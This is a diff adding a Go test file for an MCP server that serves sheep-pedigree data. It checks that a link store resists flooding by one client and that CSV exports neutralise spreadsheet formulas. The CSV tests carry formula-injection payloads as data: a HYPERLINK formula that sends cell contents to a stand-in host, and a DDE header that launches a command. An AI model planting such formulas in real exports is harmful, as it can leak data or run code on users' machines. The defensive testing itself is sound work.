@@ -1,0 +1,203 @@
+package full
+
+import (
+	"context"
+
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"github.com/mark3labs/mcp-go/mcp"
+	"runtime"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/mark3labs/mcp-go/server"
+
+	"github.com/nsip-tools/nsip-mcp/nsip"
+	"github.com/nsip-tools/nsip-mcp/transport/caller"
+)
+
+// Reading a link does no work of its own: the data was built and encoded
+// once, when the link was given, and the store counts those encoded bytes
+// against its bound. A client reading a large link over and over (the
+// attack: 510 reads of a 1.2 MB summary) costs the server the hand-over
+// alone, not a build and an encoding each.
+func TestReadingALinkNeitherBuildsNorEncodes(t *testing.T) {
+	s := New(Config{})
+	tab := table(8000) // about 1 MB as JSON
+	builds := atomic.Int64{}
+	l := s.Offer(as("token:a"), Data{Size: tab.Size(), Build: func() (*Table, error) { builds.Add(1); return tab, nil }})
+	first, err := read(t, s, as("token:a"), l.JSON)
+	if err != nil {
+		t.Fatal(err)
+	}
+	firstCSV, err := read(t, s, as("token:a"), l.CSV)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, held := s.Len(); held < int64(len(first)+len(firstCSV)) {
+		t.Errorf("the store counts %d bytes for a link whose JSON and CSV are %d bytes", held, len(first)+len(firstCSV))
+	}
+	const reads = 40
+	var before, after runtime.MemStats
+	runtime.ReadMemStats(&before)
+	for i := range reads {
+		uri := l.JSON
+		if i%2 == 1 {
+			uri = l.CSV
+		}
+		text, err := read(t, s, as("token:a"), uri)
+		if err != nil || (uri == l.JSON && text != first) {
+			t.Fatalf("read %d: %d bytes, %v", i, len(text), err)
+		}
+	}
+	runtime.ReadMemStats(&after)
+	if n := builds.Load(); n != 1 {
+		t.Errorf("the table was built %d times for 2+%d reads, want once", n, reads)
+	}
+	// Each read copying or encoding the data would allocate over 20 MB.
+	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 1<<20 {
+		t.Errorf("%d reads of a %d-byte link allocated %d bytes, want under 1 MiB: a read must share the encoded bytes", reads, len(first), alloc)
+	}
+}
+
+// Each client has its share of the store: another client making link
+// after link (the attack: 40 large summaries) drops its own oldest links,
+// never those of a client holding less than an even share, which live
+// their whole TTL. The store stays within its bound throughout.
+func TestOneClientsLinksNeverDropAnothers(t *testing.T) {
+	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	s := New(Config{TTL: time.Hour, MaxBytes: 64 << 10, StoreBytes: 256 << 10, Now: func() time.Time { return now }})
+	honest := as(caller.Address("192.0.2.1"))
+	mine := s.Offer(honest, data(table(100)))
+	if mine.JSON == "" {
+		t.Fatalf("no link: %s", mine.Note)
+	}
+	// The flood comes from one address over many sessions' worth of
+	// calls, each a different answer.
+	flood := as(caller.Address("198.51.100.9"))
+	var theirs []Links
+	for i := range 40 {
+		now = now.Add(time.Minute)
+		theirs = append(theirs, s.Offer(flood, Data{Ref: fmt.Sprint("breed#", i), Size: 1, Build: func() (*Table, error) { return table(300), nil }}))
+		if _, held := s.Len(); held > 256<<10 {
+			t.Fatalf("after %d links the store holds %d bytes, over its bound of %d", i+1, held, 256<<10)
+		}
+	}
+	now = now.Add(20*time.Minute - time.Second) // just short of the hour
+	if text, err := read(t, s, honest, mine.CSV); err != nil || !strings.HasPrefix(text, "lpn_id,sex,WWT,note\n") {
+		t.Errorf("the honest client's link after another's 40: %v; links must live their hour", err)
+	}
+	// The flood's newest link reads; its oldest gave way to it.
+	if _, err := read(t, s, flood, theirs[39].JSON); err != nil {
+		t.Errorf("the flood's newest link: %v", err)
+	}
+	if _, err := read(t, s, flood, theirs[0].JSON); !errors.Is(err, server.ErrResourceNotFound) {
+		t.Errorf("the flood's oldest link: %v, want not found (its own newer links took its room)", err)
+	}
+	now = now.Add(time.Second)
+	if _, err := read(t, s, honest, mine.CSV); !errors.Is(err, server.ErrResourceNotFound) {
+		t.Errorf("the honest link at the hour: %v, want not found", err)
+	}
+}
+
+// The share is the client's, not the session's: a client opening a new
+// session for each call is one holder, so its sessions' links give way to
+// each other rather than to another client's, and only the session that
+// made a call reads its link.
+func TestAClientsSessionsShareOneShare(t *testing.T) {
+	s := New(Config{MaxBytes: 64 << 10, StoreBytes: 256 << 10})
+	honest := as(caller.Address("192.0.2.1"))
+	mine := s.Offer(honest, data(table(300)))
+	// Each session's link is smaller than the honest one, but together
+	// they are the largest holder by far.
+	for i := range 150 {
+		ctx := caller.WithRequest(withSession(fmt.Sprint("flood-", i)), caller.Address("198.51.100.9"))
+		s.Offer(ctx, Data{Size: 1, Build: func() (*Table, error) { return table(20), nil }})
+	}
+	if _, held := s.Len(); held > 256<<10 {
+		t.Errorf("the store holds %d bytes, over its bound", held)
+	}
+	if _, err := read(t, s, honest, mine.JSON); err != nil {
+		t.Errorf("the honest link after 150 sessions of one client: %v", err)
+	}
+	ctx := caller.WithRequest(withSession("one"), caller.Address("198.51.100.9"))
+	l := s.Offer(ctx, data(table(2)))
+	if _, err := read(t, s, caller.WithRequest(withSession("two"), caller.Address("198.51.100.9")), l.JSON); !errors.Is(err, server.ErrResourceNotFound) {
+		t.Errorf("another session of the same client read the link: %v, want not found", err)
+	}
+	if _, err := read(t, s, ctx, l.JSON); err != nil {
+		t.Errorf("the session that made the call: %v", err)
+	}
+}
+
+// A text cell a spreadsheet would run as a formula is written with a
+// leading single quote (CWE-1236, OWASP's rule), the header's too; plain
+// numbers, negative ones included, stay numbers, and the JSON keeps every
+// value as it was.
+func TestCSVCellsAreNeverFormulas(t *testing.T) {
+	hostile := []any{
+		`=HYPERLINK("http://example.test/?"&A1,"Hill Farm")`, "+1+1", "-1-1", "@SUM(A1:A9)", "\tTab Farm", "\rCR Farm",
+		"-0.25", -0.25, "+3", "1e-7", "-2.5E+3", "-Inf", "- Hill", "Hill = Dale", "'quoted", "",
+	}
+	want := []string{
+		`'=HYPERLINK("http://example.test/?"&A1,"Hill Farm")`, "'+1+1", "'-1-1", "'@SUM(A1:A9)", "'\tTab Farm", "'\rCR Farm",
+		"-0.25", "-0.25", "+3", "1e-7", "-2.5E+3", "'-Inf", "'- Hill", "Hill = Dale", "'quoted", "",
+	}
+	tab := &Table{Columns: []string{"=cmd|' /C calc'!A0", "value"}}
+	for _, v := range hostile {
+		tab.Rows = append(tab.Rows, []any{"farm", v})
+	}
+	b, err := tab.CSV()
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if recs[0][0] != "'=cmd|' /C calc'!A0" {
+		t.Errorf("header %q, want the formula quoted", recs[0][0])
+	}
+	var got []string
+	for _, r := range recs[1:] {
+		got = append(got, r[1])
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("cells:\n%q\nwant:\n%q", got, want)
+	}
+	j, err := tab.JSON()
+	if err != nil || !strings.Contains(string(j), `"value":"=HYPERLINK(`) || !strings.Contains(string(j), `"value":-0.25`) {
+		t.Errorf("JSON %s, %v: want the values unchanged", j, err)
+	}
+}
+
+// fakeSession is a session as mcp-go hands one to a call.
+type fakeSession string
+
+func (fakeSession) Initialize()                                         {}
+func (fakeSession) Initialized() bool                                   { return true }
+func (fakeSession) NotificationChannel() chan<- mcp.JSONRPCNotification { return nil }
+func (s fakeSession) SessionID() string                                 { return string(s) }
+
+// withSession is a call's context inside session id.
+func withSession(id string) context.Context {
+	return server.NewMCPServer("test", "1").WithContext(context.Background(), fakeSession(id))
+}
+
+// A pedigree whose farm name a breeder typed as a formula reads, through
+// its link, as that text behind a quote.
+func TestPedigreeFarmFormulaReadsAsText(t *testing.T) {
+	farm := `=HYPERLINK("http://example.test/?"&B2,"Hill Farm")`
+	got := readAs(t, &nsip.Lineage{Subject: nsip.LineageNode{LPNID: "C", Farm: farm, Sire: &nsip.LineageNode{LPNID: "S", Farm: "@Dale"}}}, nil, "csv")
+	recs, err := csv.NewReader(strings.NewReader(got)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != 3 || recs[1][6] != "'"+farm || recs[2][6] != "'@Dale" {
+		t.Errorf("pedigree CSV %q, want both farms behind a quote", got)
+	}
+}
